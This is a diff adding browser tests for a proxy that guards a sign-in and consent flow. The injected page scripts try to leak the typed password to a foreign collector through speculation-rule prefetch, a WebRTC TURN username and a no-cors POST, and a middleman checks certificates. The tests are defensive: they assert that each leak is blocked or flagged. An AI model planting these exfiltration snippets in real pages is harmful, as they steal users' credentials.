@@ -1,0 +1,175 @@
+import { createHash } from 'node:crypto'
+import { createSocket } from 'node:dgram'
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser } from '@playwright/test'
+import { request } from 'undici'
+import { issueCertificates } from '../../demo/certificates.ts'
+import { sessionIn, sessionOf } from '../../helpers/browser/consent-session.ts'
+import { Egress } from '../../helpers/browser/egress.ts'
+import { guardedContext, witness } from '../../helpers/browser/guard-context.ts'
+import { launchBrowser } from '../../helpers/browser/launch.ts'
+import { BrowserProxy } from '../../helpers/browser/proxy/browser-proxy.ts'
+import { resolveBrowser } from '../../helpers/browser/resolve.ts'
+import { originsOf } from '../../helpers/http/allowed-origins.ts'
+import { test as base, expect, foreign, PATIENT, walkFrom } from './browser-test.ts'
+import { signInPage } from './consent-pages.ts'
+import { collector, pagesWith, redirectUri, SECRET, submit, variables } from './egress-pages.ts'
+import { middleman } from './middleman.ts'
+import { page } from './service.ts'
+
+const test = base.extend<object, { readonly launched: Browser }>({
+  launched: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern.
+    async ({}, use) => {
+      const { executablePath } = resolveBrowser({ environment: process.env, say: console.log })
+      const browser = await launchBrowser(executablePath)
+      await use(browser)
+      await browser.close()
+    },
+    { scope: 'worker' },
+  ],
+})
+
+/** Runs a script with what was typed before the form is sent. */
+const sending = (script: string) =>
+  submit(
+    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
+  )
+
+for (const kind of ['prefetch', 'prerender'])
+  test(`no page is fetched ahead by rules for ${kind}`, async ({ launched, service }) => {
+    const sent: string[] = []
+    const abroad = foreign(await service(collector(sent)))
+    const rules = `JSON.stringify({ ${kind}: [{ source: 'list', urls: ['${abroad}/ahead?x=' + pw], eagerness: 'immediate' }] })`
+    const script = `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: ${rules} }))
+      for (let turn = 0; turn < 20; turn += 1) await fetch('/settled')`
+    const own = await service(pagesWith(sending(script), () => abroad))
+    const session = await sessionIn(launched, PATIENT)
+    const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
+    await session.close()
+    expect(walk.redirect).toContain('code=c1')
+    expect(sent).toEqual([])
+  })
+
+test('no peer is looked for beside the proxy', async ({ launched, service }) => {
+  const sent: string[] = []
+  const peer = createSocket('udp4', (message) => sent.push(message.toString('latin1')))
+  peer.bind(0, '127.0.0.1')
+  await once(peer, 'listening')
+  const urls = `turn:127.0.0.1:${peer.address().port}`
+  const script = `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${urls}', username: pw, credential: 'x' }] })
+    const gathered = new Promise((end) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && end() })
+    peer.createDataChannel('x')
+    await peer.setLocalDescription(await peer.createOffer())
+    await gathered`
+  const own = await service(pagesWith(sending(script), () => ''))
+  const session = await sessionIn(launched, PATIENT)
+  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
+  await session.close()
+  peer.close()
+  expect(walk.redirect).toContain('code=c1')
+  expect(sent).toEqual([])
+})
+
+test('a context that nobody guards reaches nothing', async ({ launched, service }) => {
+  const own = await service(() => page('Welcome', ''))
+  const context = await launched.newContext()
+  const lost = (await context.newPage()).goto(own.origin)
+  await expect(lost).rejects.toThrow('ERR_PROXY_CONNECTION_FAILED')
+  await context.close()
+  expect(own.visits).toEqual([])
+})
+
+test('before a walk begins, a context sends nothing', async ({ launched, service }) => {
+  const own = await service(() => page('Welcome', ''))
+  const { context } = await guardedContext(launched)
+  await (await context.newPage()).goto(own.origin).catch(() => {})
+  await context.close()
+  expect(own.visits).toEqual([])
+})
+
+test('each connection of the browser is verified: a stranger on a later one gets nothing', async ({
+  launched,
+  service,
+}) => {
+  const own = await service(
+    pagesWith(
+      (html) => html,
+      () => '',
+      { 'GET /sign-in': () => ({ headers: { connection: 'close' }, body: signInPage() }) },
+    ),
+  )
+  const [theirs, strangers] = await Promise.all([issueCertificates(), issueCertificates()])
+  const between = await middleman(own.origin, [theirs.server, strangers.server])
+  const transport = {
+    ca: theirs.authority,
+    proxy: { url: between.origin, bypass: '' },
+    clientCertificates: [],
+  }
+  const session = await sessionIn(launched, PATIENT, { transport })
+  const origin = 'https://localhost:8443'
+  const allowedOrigins = originsOf([origin])
+  const { failure } = await session.walk(walkFrom({ origin }, { redirectUri, variables, allowedOrigins }))
+  await session.close()
+  between.close()
+  expect(between.read.length).toBeGreaterThan(1)
+  expect(between.read[0]).toContain('GET /authorize')
+  expect(between.read.slice(1).join('')).toBe('')
+  expect(failure).toMatchObject({
+    kind: 'unreachable',
+    reason: `${origin}/sign-in: the TLS certificate is from an untrusted authority (CERT_SIGNATURE_FAILURE)`,
+  })
+})
+
+test('a WebSocket to a host that is allowed is opened, and carries both ways', async ({
+  launched,
+  service,
+}) => {
+  const echo = createServer().on('upgrade', ({ headers }, socket) => {
+    const key = `${headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`
+    const accept = createHash('sha1').update(key).digest('base64')
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
+    )
+    // One text frame for each frame that comes.
+    socket.on('data', () => socket.write(Buffer.from([0x81, 2, ...Buffer.from('ok')])))
+  })
+  echo.listen(0, '127.0.0.1')
+  await once(echo, 'listening')
+  const address = `ws://127.0.0.1:${(echo.address() as AddressInfo).port}`
+  const script = `const socket = new WebSocket('${address}')
+    await new Promise((end) => { socket.onopen = () => socket.send(pw); socket.onmessage = ({ data }) => fetch('/said?' + data).then(end) })`
+  const own = await service(pagesWith(sending(script), () => ''))
+  const session = await sessionIn(launched, PATIENT)
+  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
+  await session.close()
+  echo.close()
+  expect(walk.strays).toBeUndefined()
+  expect(own.visits).toContain('GET /said')
+})
+
+test('who takes the proxy for a server gets no answer', async () => {
+  const gate = { allows: () => true, judge: () => false, loses: () => {} }
+  const proxy = await BrowserProxy.start(gate, { clientCertificates: [] })
+  await expect(request(proxy.server)).rejects.toMatchObject({ code: 'UND_ERR_SOCKET' })
+  await proxy.close()
+})
+
+test('what gets past the proxy is seen, and named as sent', async ({ chrome, service }) => {
+  const sent: string[] = []
+  const abroad = foreign(await service(collector(sent)))
+  const script = `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: pw })`
+  const own = await service(pagesWith(sending(script), () => abroad))
+  const context = await chrome.newContext()
+  const egress = new Egress()
+  witness(context, egress)
+  const session = await sessionOf({ context, egress }, PATIENT)
+  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
+  await session.close()
+  expect(sent.join()).toContain(SECRET)
+  expect(walk.strays).toMatchObject([
+    { method: 'POST', to: abroad, isSent: true, carries: [expect.stringMatching(/^<consent_password#/)] },
+  ])
+})
